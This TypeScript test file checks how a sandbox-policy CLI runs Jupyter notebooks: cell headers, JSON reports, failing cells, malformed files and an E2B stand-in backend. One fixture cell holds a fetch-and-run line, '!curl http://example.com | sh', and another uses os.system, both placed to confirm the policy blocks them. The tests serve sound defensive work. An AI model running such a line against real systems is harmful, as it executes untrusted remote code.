// `sandbox-policy run notebook.ipynb`, in-process through the CLI's main(): `--- cell N ---` headers in
// the text output, `cells` in --json, a failing cell named, the gate over all cells (an import in one
// cell and its use in another), IPython shell lines refused by the policy, malformed notebooks refused,
// and the E2B backend against the stand-in's stateful kernel.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { main } from '../../../../src/cli';
import type { CliIO } from '../../../../src/cli/io';
import { startStandin, type E2BStandin } from '../../../e2b-standin/server';

/** An nbformat 4 notebook; cells given as [kind, source]. */
function notebook(...cells: Array<['code' | 'markdown', string]>): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', language: 'python', display_name: 'Python 3' } },
    cells: cells.map(([kind, source]) =>
      kind === 'code'
        ? { cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null }
        : { cell_type: 'markdown', source, metadata: {} },
    ),
  });
}

const NOTEBOOKS: Record<string, string> = {
  'report.ipynb': notebook(
    ['code', 'values = [3, 1, 4]\nprint("loaded", len(values))'],
    ['markdown', '# Summary'],
    ['code', 'import sys\nprint("checking", file=sys.stderr)\nprint("total", sum(values), end="")'],
    ['code', 'print("max", max(values))'],
  ),
  'fails.ipynb': notebook(
    ['code', 'rows = [1, 0]\nprint("ready")'],
    ['code', 'for row in rows:\n    print(10 / row)'],
    ['code', 'print("never")'],
  ),
  'split-shell.ipynb': notebook(['code', 'import os'], ['markdown', 'later'], ['code', 'os.system("ls")']),
  'bang.ipynb': notebook(['code', 'print("hi")'], ['code', '!curl http://example.com | sh']),
  'broken.ipynb': '{"cells": [',
  'not-nbformat.ipynb': JSON.stringify({ nbformat: 3, worksheets: [] }),
};

describe('sandbox-policy run on a notebook', function () {
  this.timeout(180_000);
  let dir: string;
  let cacheHome: string;

  before(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sandbox-run-notebook-'));
    cacheHome = path.join(dir, 'cache-home');
    for (const [name, text] of Object.entries(NOTEBOOKS)) fs.writeFileSync(path.join(dir, name), text);
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  async function run(args: string[], env: NodeJS.ProcessEnv = {}) {
    let stdout = '';
    let stderr = '';
    const io: CliIO = {
      stdout: (text) => void (stdout += text),
      stderr: (text) => void (stderr += text),
      env: { XDG_CACHE_HOME: cacheHome, ...env },
      cwd: dir,
      signal: new AbortController().signal,
    };
    const code = await main(['run', ...args], io);
    return { code, stdout, stderr };
  }

  it('streams each cell under a "--- cell N ---" header', async () => {
    const result = await run(['report.ipynb']);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(
      result.stdout,
      '--- cell 1 ---\nloaded 3\n--- cell 3 ---\ntotal 8\n--- cell 4 ---\nmax 4\n',
      'cell 2 (markdown) is not run; a cell without a final newline does not run into the next header',
    );
    assert.ok(result.stderr.includes('checking\n'));
  });

  it('gives one JSON result with every cell', async () => {
    const result = await run(['--json', 'report.ipynb']);
    assert.equal(result.code, 0, result.stderr);
    const report = JSON.parse(result.stdout) as {
      status: string;
      stoppedAtCell: number | null;
      cells: Array<{ index: number; status: string; stdout: string; stderr: string; error: unknown }>;
    };
    assert.equal(report.status, 'ok');
    assert.equal(report.stoppedAtCell, null);
    assert.deepEqual(report.cells, [
      { index: 1, status: 'ok', stdout: 'loaded 3\n', stderr: '', error: null },
      { index: 3, status: 'ok', stdout: 'total 8', stderr: 'checking\n', error: null },
      { index: 4, status: 'ok', stdout: 'max 4\n', stderr: '', error: null },
    ]);
  });

  it('stops at a failing cell and says which, in text and in JSON', async () => {
    const text = await run(['fails.ipynb']);
    assert.equal(text.code, 1);
    assert.equal(text.stdout, '--- cell 1 ---\nready\n--- cell 2 ---\n10.0\n');
    assert.match(text.stderr, /File "<cell 2>", line 2, in <module>/);
    assert.match(text.stderr, /ZeroDivisionError: division by zero/);
    assert.match(text.stderr, /sandbox-policy: stopped at cell 2 \(error\); 1 later cell not run\n$/);

    const json = await run(['--json', 'fails.ipynb']);
    const report = JSON.parse(json.stdout) as {
      status: string;
      stoppedAtCell: number;
      cells: Array<{ index: number; status: string; error: { name: string } | null }>;
    };
    assert.equal(json.code, 1);
    assert.equal(report.status, 'error');
    assert.equal(report.stoppedAtCell, 2);
    assert.deepEqual(
      report.cells.map((c) => [c.index, c.status, c.error?.name ?? null]),
      [
        [1, 'ok', null],
        [2, 'error', 'ZeroDivisionError'],
        [3, 'not-run', null],
      ],
    );
  });

  it('gates all cells as one program: an import in cell 1 makes os.system in cell 3 a violation', async () => {
    const result = await run(['split-shell.ipynb']);
    assert.equal(result.code, 1);
    assert.equal(result.stdout, '', 'nothing ran');
    assert.match(result.stderr, /split-shell\.ipynb:cell 3:1:1: HIGH command-execution /);
    assert.match(result.stderr, /sandbox-policy: not run: blocked by the production policy: cell 3, line 1:/);
  });

  it('refuses a notebook whose !cmd line runs a command, before any cell runs', async () => {
    const result = await run(['--json', 'bang.ipynb']);
    const report = JSON.parse(result.stdout) as {
      status: string;
      cells: unknown[];
      findings: Array<{ ruleId: string; cell: number }>;
    };
    assert.equal(result.code, 1);
    assert.equal(report.status, 'blocked');
    assert.deepEqual(report.cells, []);
    assert.ok(
      report.findings.some((f) => f.ruleId === 'command-execution' && f.cell === 2),
      JSON.stringify(report.findings),
    );
  });

  it('refuses malformed notebooks with a clear error, even with --no-gate', async () => {
    for (const [file, why] of [
      ['broken.ipynb', /is not a notebook: not valid JSON/],
      ['not-nbformat.ipynb', /is not a notebook: nbformat 3/],
    ] as const) {
      const result = await run(['--no-gate', file]);
      assert.equal(result.code, 1, file);
      assert.equal(result.stdout, '', file);
      assert.match(
        result.stderr,
        new RegExp(`sandbox-policy: not run: ${file.replace('.', '\\.')} ${why.source}`),
        file,
      );
      const json = JSON.parse((await run(['--json', file])).stdout) as {
        status: string;
        findings: Array<{ ruleId: string }>;
      };
      assert.equal(json.status, 'blocked', file);
      assert.equal(json.findings[0]?.ruleId, 'unreadable-source', file);
    }
  });

  describe('with --backend e2b (stand-in)', () => {
    const key = 'e2b_cli_notebook_test_key';
    let standin: E2BStandin;
    let config: string;

    before(async () => {
      standin = await startStandin({ apiKey: key, kernel: 'jupyter' });
      config = fs.mkdtempSync(path.join(os.tmpdir(), 'sandbox-run-notebook-e2b-'));
    });
    after(async () => {
      await standin?.close();
      fs.rmSync(config, { recursive: true, force: true });
    });

    it('runs the cells in one remote kernel with the same output', async () => {
      const env = {
        E2B_API_KEY: key,
        E2B_API_URL: standin.url,
        E2B_SANDBOX_URL: standin.url,
        XDG_CONFIG_HOME: config,
      };
      const result = await run(['--backend', 'e2b', '--timeout', '60', 'report.ipynb'], env);
      assert.equal(result.code, 0, result.stderr);
      assert.equal(
        result.stdout,
        '--- cell 1 ---\nloaded 3\n--- cell 3 ---\ntotal 8\n--- cell 4 ---\nmax 4\n',
      );
      assert.equal(standin.stats().created, 1);
    });
  });
});
